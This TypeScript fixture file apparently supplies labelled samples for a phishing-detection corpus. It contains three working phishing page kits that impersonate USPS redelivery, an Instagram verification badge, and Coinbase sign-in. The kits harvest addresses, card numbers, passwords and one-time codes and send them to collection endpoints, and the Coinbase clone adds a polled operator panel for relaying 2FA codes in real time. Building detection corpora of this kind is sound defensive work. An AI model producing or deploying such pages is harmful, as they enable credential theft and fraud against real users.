import { type Entry, htmlRoute, redirectRoute } from '../entry.js';
import { zip, pe, cfb, iso, lnk, apk, crx, rar5, sevenZip, beepWav, fileRoute, jsRoute, jsonRoute, cssRoute } from '../parts/e-bin.js';
import { doc, baseCss, loginCss, tagStub, cookieBar, imgRoute, b64, xorB64, hexEsc, pack } from '../parts/zf-kit.js';

export const entries: Entry[] = [
{
  id: 'zf-phish-usps-redelivery-sms',
  label: 'phishing',
  kind: 'shipping-kit',
  url: 'https://usps.redelivery-track-us.top/us',
  body: doc({
    title: 'USPS.com® - Package Redelivery',
    css: baseCss + `.b{background:#333366;color:#fff;padding:14px 28px;font-weight:700}`,
    body: `<div class="b">USPS</div><main>
<h2>The package arrived at the warehouse but cannot be delivered due to incomplete address information.</h2>
<p>Please confirm your address within 12 hours. A redelivery fee of $0.30 applies.</p>
<div id="app" class="card"></div></main>
<footer>Copyright © 2025 USPS. All Rights Reserved.</footer>
<script>
(function(){var s=[['Full Name','fn'],['Address Line 1','a1'],['City','c'],['State','st'],['ZIP Code','z'],['Phone','ph'],['Email','em']],k=[['Cardholder Name','ch'],['Card Number','cn'],['Expiration Date','ex'],['CVV','cv']];
var app=document.getElementById('app'),data={};
function render(list,btn,next){app.innerHTML='';list.forEach(function(x){var l=document.createElement('label');l.textContent=x[0];var i=document.createElement('input');i.name=x[1];i.type='text';app.appendChild(l);app.appendChild(i)});
var b=document.createElement('button');b.className='btn';b.textContent=btn;b.onclick=function(){app.querySelectorAll('input').forEach(function(i){data[i.name]=i.value});next()};app.appendChild(b)}
render(s,'Continue',function(){render(k,'Pay $0.30',function(){navigator.sendBeacon('/api/r',JSON.stringify(data));app.innerHTML='<p>Thank you. Your package will be redelivered within 1-2 business days.</p>'})})})();
</script>`,
  }),
  routes: { 'usps.redelivery-track-us.top/api/r': jsonRoute({}) },
},
{
  id: 'zf-phish-instagram-verified-badge',
  label: 'phishing',
  kind: 'social-kit',
  url: 'https://verify-badge-instagram.com/form/',
  body: doc({
    title: 'Instagram Verified Badge Request',
    css: loginCss('#0095f6', '#fafafa'),
    body: `<div class="wrap" style="text-align:center"><div class="logo" style="justify-content:center;font-family:cursive;color:#000;font-size:30px">Instagram</div>
<h1>Blue Badge Application ✔</h1><p class="small">Congratulations! Your account has been reviewed by our team and is eligible for the blue verification badge. Please fill in the form to complete the process.</p>
<form method="post" action="/form/login.php"><input name="username" placeholder="Username"><input name="password" type="password" placeholder="Password"><input name="email" placeholder="Email address"><button>Send</button></form>
<div class="foot">from Meta</div></div>`,
  }),
},
{
  id: 'zf-phish-coinbase-login-2fa',
  label: 'phishing',
  kind: 'exchange-kit',
  url: 'https://coinbase-secure-signin.com/signin?return_to=/accounts',
  body: doc({
    title: 'Coinbase - Sign In',
    css: loginCss('#0052ff', '#fff'),
    body: `<div class="wrap"><div class="logo" style="color:#0052ff">coinbase</div>
<div id="s1"><h1>Sign in to Coinbase</h1><input id="em" type="email" placeholder="Your email address"><input id="pw" type="password" placeholder="Password"><button onclick="st(2)">Sign in</button></div>
<div id="s2" style="display:none"><h1>Enter the 7-digit code</h1><p class="small">We sent a code to your phone ending in ••43. This helps us keep your account secure.</p><input id="otp" maxlength="7"><button onclick="st(3)">Submit</button></div>
<div id="s3" style="display:none"><h1>Account review in progress</h1><p class="small">Please do not close this window. A Coinbase security specialist will contact you shortly. Reference: CB-28817-SEC</p></div>
<div class="foot"><a href="#">Privacy</a><a href="#">Terms</a>© 2025 Coinbase</div></div>
<script>
function st(n){var p={step:n,email:em.value,password:pw.value,otp:otp.value,t:Date.now()};fetch('/ws/panel/push',{method:'POST',body:JSON.stringify(p)});
[1,2,3].forEach(function(i){document.getElementById('s'+i).style.display=i===n?'block':'none'});if(n===3)setInterval(function(){fetch('/ws/panel/poll?id='+encodeURIComponent(em.value)).then(function(r){return r.json()}).then(function(j){if(j.cmd==='redirect')location=j.url})},3000)}
</script>`,
  }),
  routes: {
    'coinbase-secure-signin.com/ws/panel/push': jsonRoute({ ok: 1 }),
    'coinbase-secure-signin.com/ws/panel/poll': jsonRoute({ cmd: 'wait' }),
  },
},
];
